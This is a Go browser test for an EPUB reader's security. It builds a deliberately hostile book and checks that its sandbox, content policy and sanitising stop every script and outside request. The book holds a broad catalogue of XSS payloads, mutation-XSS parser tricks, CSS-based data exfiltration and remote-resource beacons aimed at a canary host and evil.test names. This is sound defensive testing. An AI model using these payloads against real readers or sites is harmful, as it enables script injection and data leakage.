package reader

import (
	"context"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"

	bt "wenlan/internal/browsertest"
)

// hostile makes a book that does all the harm that we know how to try. RAN(x) is
// a script that leaves a mark; HOST is the address of a server that counts who
// comes; names under evil.test are looked for in the browser's own network log.
func hostile(t *testing.T, host string) []byte {
	const (
		head = `<?xml version="1.0" encoding="utf-8"?>`
		html = `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" xmlns:svg="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"`
	)
	fill := func(s string) string {
		for {
			a, b, ok := strings.Cut(s, "RAN(")
			if !ok {
				break
			}
			what, rest, _ := strings.Cut(b, ")")
			// the mark is set on every window that can be reached
			s = a + `for(let w of [self,parent,top])try{(w.ran=w.ran||[]).push('` + what + `')}catch(e){};try{top.document.title='ran'}catch(e){};fetch('http://HOST/ran-` + what + `')` + rest
		}
		return strings.ReplaceAll(s, "HOST", host)
	}
	files := [][2]string{
		{"mimetype", epubType},
		{"META-INF/container.xml", container},
		{"OEBPS/package.opf", head + `<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">
			<dc:identifier id="i">h</dc:identifier><dc:title>&lt;img src=x onerror="RAN(title)"&gt;</dc:title><dc:creator>&lt;script&gt;RAN(creator)&lt;/script&gt;</dc:creator><dc:language>en</dc:language></metadata>
			<manifest>
			<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
			<item id="c1" href="c1.xhtml" media-type="application/xhtml+xml" properties="scripted remote-resources"/>
			<item id="c2" href="c2.xhtml" media-type="application/xhtml+xml"/>
			<item id="c3" href="c3.xhtml" media-type="application/xhtml+xml"/>
			<item id="c4" href="c4.svg" media-type="image/svg+xml"/>
			<item id="c5" href="c5.html" media-type="text/html"/>
			<item id="c6" href="c6.xhtml" media-type="application/xhtml+xml"/>
			<item id="c7" href="c7.xhtml" media-type="application/xhtml+xml"/>
			<item id="js" href="s.js" media-type="text/javascript"/><item id="mjs" href="m.mjs" media-type="application/javascript"/>
			<item id="odd" href="s.odd" media-type="image/png"/>
			<item id="css" href="s.css" media-type="text/css"/><item id="css2" href="t.css" media-type="text/css"/>
			<item id="inner" href="inner.xhtml" media-type="application/xhtml+xml"/>
			<item id="pic" href="p.svg" media-type="image/svg+xml"/>
			<item id="r1" href="http://HOST/remote.xhtml" media-type="application/xhtml+xml"/>
			<item id="r2" href="../../../../../records/1/read" media-type="application/xhtml+xml"/>
			<item id="r3" href="javascript:RAN(spine)" media-type="application/xhtml+xml"/>
			</manifest><spine>` + `<itemref idref="c1"/><itemref idref="c2"/><itemref idref="c3"/><itemref idref="c4"/><itemref idref="c5"/><itemref idref="c6"/><itemref idref="r1"/><itemref idref="r2"/><itemref idref="r3"/><itemref idref="c7"/></spine></package>`},
		{"OEBPS/nav.xhtml", head + html + `><body><nav epub:type="toc"><ol>
			<li><a href="c1.xhtml">&lt;img src=x onerror="RAN(label)"&gt;</a></li>
			<li><a href="c2.xhtml"><img src="http://HOST/nav.png" onerror="RAN(navimg)" alt=""/><script>RAN(navscript)</script>Two</a></li>
			<li><a href="javascript:RAN(navlink)">javascript</a></li><li><a href="http://HOST/nav">outside</a></li><li><a href="data:text/html,x">data</a></li>
			<li><a href="c7.xhtml">Seven</a></li></ol></nav></body></html>`},
		// scripts and handlers
		{"OEBPS/c1.xhtml", head + html + ` onload="RAN(html)"><head><title>1</title>
			<script>RAN(inline)</script><script src="s.js"></script><script type="module" src="m.mjs"></script><script type="module">RAN(module)</script>
			<script src="s.odd"></script><script src="http://HOST/s.js"></script><script src="data:text/javascript,RAN(data)"></script>
			<script type="speculationrules">{"prerender":[{"urls":["http://HOST/speculated"]}],"prefetch":[{"urls":["http://spec.evil.test/"]}]}</script>
			<script type="importmap">{"imports":{"x":"http://HOST/map.js"}}</script>
			<svg:script>RAN(svgscript)</svg:script><svg:script xlink:href="s.js"/></head>
			<body onload="RAN(body)" onpageshow="RAN(pageshow)" onresize="RAN(resize)"><h1>CHAPTER 1 IS SHOWN</h1>
			<img src="none.png" onerror="RAN(onerror)" alt=""/><img src="p.svg" onload="RAN(onload)" alt=""/>
			<p id="clickme" onclick="RAN(onclick)" onmouseover="RAN(onmouseover)" onpointerdown="RAN(onpointer)" style="animation: a 1s" onanimationstart="RAN(animation)">press</p>
			<style>@keyframes a { to { opacity: .9 } }</style>
			<input autofocus="" onfocus="RAN(onfocus)"/><details open="" ontoggle="RAN(toggle)"><summary>s</summary>d</details>
			<p><a id="j" href="javascript:RAN(jslink)">js</a> <a id="j2" href=" java&#10;script:RAN(jslink2)">js</a> <a href="data:text/html,%3Cscript%3ERAN(datalink)%3C/script%3E">data</a>
			<a href="vbscript:x">vb</a> <a href="blob:null/x">blob</a> <a href="file:///etc/passwd">file</a> <a href="view-source:http://HOST/v">v</a>
			<a target="_top" href="http://HOST/top">top</a> <a target="_blank" rel="opener" href="http://HOST/blank" ping="http://HOST/ping">blank</a> <a href="//HOST/relative">relative</a> <a href="mailto:a@b.test">mail</a> <a download="" href="s.js">get</a></p>
			<svg:svg width="20" height="20" onload="RAN(svgonload)"><svg:a xlink:href="javascript:RAN(svglink)"><svg:text y="10">svg</svg:text><svg:set attributeName="xlink:href" to="javascript:RAN(svgset)"/><svg:animate attributeName="href" values="javascript:RAN(svganim)" begin="0s" onbegin="RAN(onbegin)"/></svg:a><svg:animate attributeName="x" dur="1s" onbegin="RAN(onbegin2)"/></svg:svg>
			<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:RAN(math)"><mi href="http://HOST/math">x</mi></math>
			<p>END OF 1</p></body></html>`},
		// whatever is fetched
		{"OEBPS/c2.xhtml", `<?xml version="1.0"?><?xml-stylesheet href="http://HOST/pi.css" type="text/css"?><?xml-stylesheet href="x.xsl" type="text/xsl"?>
			<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://HOST/x.dtd" [<!ENTITY e SYSTEM "http://HOST/entity">]>` + html + ` manifest="http://HOST/manifest"><head><title>2</title>
			<link rel="stylesheet" href="http://HOST/l.css"/><link rel="stylesheet" href="s.css"/><link rel="icon" href="http://HOST/icon.png"/>
			<link rel="preconnect" href="http://HOST"/><link rel="dns-prefetch" href="http://dns.evil.test"/><link rel="preconnect" href="http://pre.evil.test"/>
			<link rel="preload" as="image" href="http://HOST/preload.png"/><link rel="prefetch" href="http://HOST/prefetch"/><link rel="modulepreload" href="http://HOST/mp.js"/><link rel="prerender" href="http://HOST/prerender"/>
			<link rel="stylesheet preconnect" href="http://both.evil.test/"/><link rel="manifest" href="http://HOST/m.json"/><link rel="import" href="http://HOST/import"/>
			<style>@import "http://HOST/import.css"; @import url(//HOST/import2.css); @import "t.css"; @font-face { font-family: f; src: url(http://HOST/f.woff2) } body { font-family: f; background: url(http://HOST/bg.png) }
			h1::before { content: url(http://HOST/content.png) } li { list-style-image: url('http://HOST/list.png') } p { cursor: url(http://HOST/cursor.png), auto; background: image-set("http://HOST/set.png" 1x); mask-image: url(http://HOST/mask.svg#m); filter: url(http://HOST/filter.svg#f); border-image: url(http://HOST/border.png) 1; shape-outside: url(http://HOST/shape.png) }
			input[value^="a"] { background: url(http://HOST/stolen) }</style></head>
			<body background="http://HOST/body.png"><h1>CHAPTER 2 IS SHOWN</h1><ul><li>l</li></ul><input value="abc"/>
			<img src="http://HOST/i.png" alt=""/><img src="//HOST/i2.png" alt=""/><img srcset="http://HOST/srcset.png 1x" alt=""/><img loading="lazy" src="http://lazy.evil.test/x.png" alt=""/><picture><source srcset="http://HOST/picture.png"/><img src="p.svg" alt=""/></picture>
			<video src="http://HOST/v.mp4" poster="http://HOST/poster.png" autoplay="" preload="auto"><track src="http://HOST/t.vtt" default=""/></video><audio preload="auto" autoplay=""><source src="http://HOST/a.mp3"/></audio>
			<p style="background: url(http://HOST/inline.png)">p</p><table background="http://HOST/table.png"><tr><td background="http://HOST/td.png">t</td></tr></table><input type="image" src="http://HOST/input.png" alt="x"/>
			<svg:svg><svg:image xlink:href="http://HOST/svg.png"/><svg:image href="http://HOST/svg2.png"/><svg:use xlink:href="http://HOST/use.svg#x"/><svg:use href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' id='x'&gt;&lt;script&gt;RAN(use)&lt;/script&gt;&lt;/svg&gt;#x"/><svg:filter id="q"><svg:feImage xlink:href="http://HOST/fe.png"/></svg:filter><svg:rect width="9" height="9" filter="url(#q)" fill="url(http://HOST/fill.svg#a)"/><svg:style>@import url(http://HOST/svgimport.css);</svg:style></svg:svg>
			<p>END OF 2</p></body></html>`},
		// frames, forms, and leaving
		{"OEBPS/c3.xhtml", head + html + `><head><title>3</title><base href="http://HOST/base/" target="_top"/><meta http-equiv="refresh" content="0;url=http://HOST/refresh"/><meta http-equiv="refresh" content="0;url=javascript:RAN(refresh)"/>
			<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"/><meta http-equiv="x-dns-prefetch-control" content="on"/><meta http-equiv="set-cookie" content="a=b"/><meta http-equiv="accept-ch" content="DPR"/><meta name="referrer" content="unsafe-url"/></head>
			<body><h1>CHAPTER 3 IS SHOWN</h1>
			<iframe src="http://HOST/frame"></iframe><iframe src="inner.xhtml"></iframe><iframe src="javascript:RAN(jsframe)"></iframe><iframe src="data:text/html,%3Cscript%3ERAN(dataframe)%3C/script%3E"></iframe>
			<iframe srcdoc="&lt;script&gt;RAN(srcdoc)&lt;/script&gt;&lt;img src='http://HOST/srcdoc.png'&gt;" sandbox="allow-scripts allow-same-origin"></iframe>
			<object data="http://HOST/object" type="text/html">FALLBACK IS SHOWN</object><object data="inner.xhtml" type="application/xhtml+xml"></object><object data="javascript:RAN(object)"></object><embed src="http://HOST/embed"/><embed src="inner.xhtml" type="application/xhtml+xml"/>
			<applet code="x" codebase="http://HOST/applet"></applet>
			<form id="f" action="http://HOST/form" method="post"><input name="a" value="b"/><button id="send">send</button><button formaction="javascript:RAN(formaction)" id="send2">send</button></form><form action="javascript:RAN(form)"><button id="send3">x</button></form><isindex action="http://HOST/isindex"/>
			<a href="http://anchor.evil.test/">anchor</a><p>END OF 3</p></body></html>`},
		{"OEBPS/c4.svg", head + `<?xml-stylesheet href="http://HOST/svgpi.css" type="text/css"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 300" onload="RAN(spinesvg)"><title>CHAPTER 4 IS SHOWN</title><script>RAN(spinesvgscript)</script><script xlink:href="s.js"/>
			<image xlink:href="http://HOST/spine.png" width="9" height="9"/><foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://HOST/foreign"/><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="RAN(foreign)"/></foreignObject>
			<a xlink:href="javascript:RAN(spinelink)"><rect width="400" height="300" fill="#a8301f"/></a><style>@import "http://HOST/spine.css";</style></svg>`},
		// soup, for what the parser makes of it the second time
		{"OEBPS/c5.html", `<!DOCTYPE html><meta charset=utf-8><title>5</title><h1>CHAPTER 5 IS SHOWN</h1><noscript><p title="</noscript><img src=x onerror=RAN(noscript)>"></noscript>
			<svg><style><!--</style><img src=x onerror=RAN(mxss1)>--></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RAN(mxss2)&gt;">
			</table></math><template shadowrootmode=open><script>RAN(shadow)</script><img src=http://HOST/shadow.png></template><form><math><mtext></form><form><mglyph><style></math><img src onerror=RAN(mxss3)></style></form>
			<xmp><img src=x onerror=RAN(xmp)></xmp><listing>&lt;img src=x onerror=RAN(listing)&gt;</listing><plaintext-x></plaintext-x><a href="javascript&colon;RAN(entity)">e</a><textarea></textarea><img src=x onerror=RAN(textarea)></textarea><p>END OF 5`},
		{"OEBPS/c6.xhtml", html + `><head><title>6</title><body><h1>CHAPTER 6 IS SHOWN</h1><p>not well formed & <img src=x onerror=RAN(broken)><script>RAN(brokenscript)</script><link rel=preconnect href=http://broken.evil.test><p>END OF 6`},
		{"OEBPS/c7.xhtml", head + html + `><head><title>7</title></head><body><h1>CHAPTER 7 IS SHOWN</h1></body></html>`},
		{"OEBPS/inner.xhtml", head + html + `><head><title>i</title><script>RAN(inner)</script></head><body><img src="http://HOST/inner.png" alt=""/></body></html>`},
		{"OEBPS/s.js", `RAN(file)`}, {"OEBPS/m.mjs", `RAN(modulefile)`}, {"OEBPS/s.odd", `RAN(oddfile)`},
		{"OEBPS/s.css", `@import "http://HOST/nested.css"; @import "t.css"; body { background: url("http://HOST/cssbg.png"); -moz-binding: url(http://HOST/xbl); behavior: url(http://HOST/htc) }`},
		{"OEBPS/t.css", `@import url(http://HOST/nested2.css); h1 { background: url(//HOST/t.png) }`},
		{"OEBPS/p.svg", `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>RAN(picture)</script><image href="http://HOST/inpic.png"/><rect width="10" height="10"/></svg>`},
	}
	for i := range files {
		files[i][1] = fill(files[i][1])
	}
	return makeZip(t, files...)
}

// The walls stand one behind the other. The book is opened with all of them, and
// with some taken down, so that no wall is there by name only.
func TestHostileBook(t *testing.T) {
	t.Parallel()
	const (
		// the book is not cleaned: nothing is taken out of a parsed chapter
		unclean = `for (const [proto, name] of [[Element.prototype, 'remove'], [CharacterData.prototype, 'remove'], [Element.prototype, 'replaceWith'], [Element.prototype, 'removeAttributeNode'], [Element.prototype, 'removeAttribute'], [Element.prototype, 'removeAttributeNS']]) {
			const real = proto[name]; proto[name] = function (...args) { if (this.ownerDocument.defaultView) return real.apply(this, args) } }`
		// the frames may run scripts, as the library has it without our patch
		unpatched = `{ const real = Element.prototype.setAttribute; Element.prototype.setAttribute = function (name, value) {
			return real.call(this, name, name === 'sandbox' ? value + ' allow-scripts' : value) } }`
	)
	for _, tc := range []struct {
		name      string
		script    string
		bypassCSP bool
		leaks     bool // this many walls do not hold requests, only scripts
	}{
		{name: "all"},
		{name: "no sandbox", script: unpatched},
		{name: "no cleaning", script: unclean, leaks: true}, // of preconnect, which no policy knows
		{name: "policy alone", script: unclean + unpatched, leaks: true},
		{name: "sandbox alone", script: unclean, bypassCSP: true, leaks: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			needBuilt(t)
			canary := bt.NewCanary(t)
			l := newLibrary()
			n := l.add("h.epub", epubType, `<img src=x onerror="ran=1">`, "en", hostile(t, canary.Addr))
			srv := l.serve(t)
			log := filepath.Join(t.TempDir(), "net.json")
			ctx, stop := bt.Open(t, bt.Options{NetLog: log, Timeout: time.Minute})
			rs := bt.Watch(t, ctx)
			var dialogs, windows []string
			if err := chromedp.Listen(ctx, func(ev any) {
				switch ev := ev.(type) {
				case *cdppage.EventJavascriptDialogOpening:
					dialogs = append(dialogs, ev.Message)
				case *target.EventTargetCreated:
					windows = append(windows, ev.TargetInfo.URL)
				case *cdppage.EventWindowOpen:
					windows = append(windows, ev.URL)
				}
			}); err != nil {
				t.Fatal(err)
			}
			bt.Do(t, ctx, bt.Call(cdppage.SetBypassCSP, cdppage.SetBypassCSPParams{Enabled: tc.bypassCSP}))
			if tc.script != "" {
				if _, err := chromedp.Run(ctx, func(ctx context.Context, target *chromedp.Target) (cdppage.AddScriptToEvaluateOnNewDocumentResult, error) {
					return cdp.Call(ctx, target, cdppage.AddScriptToEvaluateOnNewDocument, cdppage.AddScriptToEvaluateOnNewDocumentParams{Source: tc.script})
				}); err != nil {
					t.Fatal(err)
				}
			}
			bt.Do(t, ctx, chromedp.Navigate(srv.URL+at(n, "/read")))
			bt.Wait(t, ctx, isReady)

			// The title and the contents are text.
			if got := bt.Eval[string](t, ctx, `document.querySelector('h1').textContent`); !strings.Contains(got, "<img src=x") {
				t.Errorf("title: %q", got)
			}
			if got := bt.Eval[string](t, ctx, `document.querySelector('#contents-list button').textContent`); !strings.Contains(got, "<img src=x onerror=") {
				t.Errorf("label: %q", got)
			}
			if got := bt.Eval[int](t, ctx, `document.querySelectorAll('#contents-list img, #contents-list script').length`); got != 0 {
				t.Errorf("%d elements in the contents", got)
			}

			// Every chapter is shown. Where the book is not cleaned, a frame may wait
			// for ever for what the policy keeps from it.
			sections := bt.Eval[int](t, ctx, view+`.book.sections.length`)
			show := func(i int) string {
				return bt.Eval[string](t, ctx, fmt.Sprintf(`Promise.race([%s.goTo(%d), new Promise(r => setTimeout(r, 2500))]).then(() => new Promise(r => setTimeout(r, 100))).then(() => %s
					.map(c => (c.doc?.body?.textContent ?? '') + [...(c.doc?.querySelectorAll('img') ?? [])].filter(i => i.naturalWidth).map(i => i.alt)).join(' '))`, view, i, contents))
			}
			var shown strings.Builder
			for i := range sections {
				shown.WriteString(show(i))
				if got := bt.Eval[string](t, ctx, contents+`.map(c => c.doc?.defaultView.frameElement.getAttribute('sandbox')).join()`); got != "allow-same-origin" && got != "" && !strings.Contains(tc.script, unpatched) {
					t.Errorf("section %d: sandbox %q", i, got)
				}
			}
			if tc.name == "all" || tc.name == "no sandbox" {
				for i := 1; i <= 7; i++ {
					if want := fmt.Sprintf("CHAPTER %d IS SHOWN", i); !strings.Contains(shown.String(), want) {
						t.Errorf("%s: not so", want)
					}
				}
				if !strings.Contains(shown.String(), "FALLBACK IS SHOWN") {
					t.Error("what stands for an object is not shown")
				}
				press(t, ctx, sections, show)
			}
			if tc.name == "all" {
				bt.Eval[int](t, ctx, `(document.getElementById('open-search').click(), document.getElementById('query').value = 'CHAPTER', document.getElementById('search-go').click(), 1)`)
				bt.Wait(t, ctx, `document.querySelectorAll('#results mark').length >= 6`)
				bt.Shot(t, ctx, "hostile-search")
			}
			bt.Do(t, ctx, chromedp.Sleep(500_000_000))

			// Nothing ran.
			if got := bt.Eval[string](t, ctx, `JSON.stringify([globalThis.ran ?? null, ...`+contents+`.map(c => c.doc?.defaultView?.ran ?? null)])`); strings.Trim(strings.ReplaceAll(got, "null", ""), "[],") != "" {
				t.Errorf("scripts ran: %s", got)
			}
			if got := bt.Eval[string](t, ctx, `document.title`); !strings.HasPrefix(got, "<img") {
				t.Errorf("the title became %q", got)
			}
			if got := bt.Eval[string](t, ctx, `location.href`); got != srv.URL+at(n, "/read") {
				t.Errorf("the page went to %s", got)
			}
			if len(dialogs) > 0 || len(windows) > 0 {
				t.Errorf("dialogs %q, windows %q", dialogs, windows)
			}
			for _, hit := range canary.Hits() {
				if strings.Contains(hit, "ran-") || !tc.leaks {
					t.Errorf("the canary was reached: %s", hit)
				}
				if !tc.bypassCSP && strings.HasPrefix(hit, "GET") {
					t.Errorf("the policy let a request out: %s", hit)
				}
			}
			// Nothing left.
			stop()
			if tc.leaks {
				return
			}
			if got := rs.Foreign(srv.URL); len(got) > 0 {
				t.Errorf("requests left: %q", got)
			}
			own := at(n, "/")
			for _, u := range rs.Sent() {
				if rest := strings.TrimPrefix(u, srv.URL); !strings.HasPrefix(rest, own) && !strings.HasPrefix(rest, assetRoot) {
					t.Errorf("asked the library for %s", rest)
				}
			}
			for _, name := range []string{"evil.test", canary.Addr} {
				if got := bt.Mentions(t, log, name); len(got) > 0 {
					t.Errorf("the network log names %s: %s", name, strings.Join(slices.Compact(got)[:min(3, len(got))], "\n"))
				}
			}
		})
	}
}

// press presses everything in every chapter, and sends every form.
func press(t *testing.T, ctx context.Context, sections int, show func(int) string) {
	t.Helper()
	for i := range sections {
		show(i)
		bt.Eval[int](t, ctx, contents+`.map(c => {
			for (const el of c.doc.querySelectorAll('a, p, button, summary, input, text, rect')) {
				el.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
				el.dispatchEvent(new MouseEvent('auxclick', { bubbles: true, cancelable: true, button: 1 }))
			}
			for (const f of c.doc.querySelectorAll('form')) try { f.requestSubmit() } catch {}
			return 1 }).length`)
		bt.Do(t, ctx, chromedp.Sleep(150_000_000))
		if !bt.Eval[bool](t, ctx, `document.getElementById('link').open`) {
			continue
		}
		href := bt.Eval[string](t, ctx, `document.getElementById('link-open').getAttribute('href') ?? ''`)
		if href != "" && !strings.HasPrefix(href, "http") && !strings.HasPrefix(href, "mailto:") {
			t.Errorf("offered to open %q", href)
		}
		bt.Shot(t, ctx, "hostile-link")
		bt.Eval[int](t, ctx, `(document.getElementById('link').close(), 1)`)
	}
}
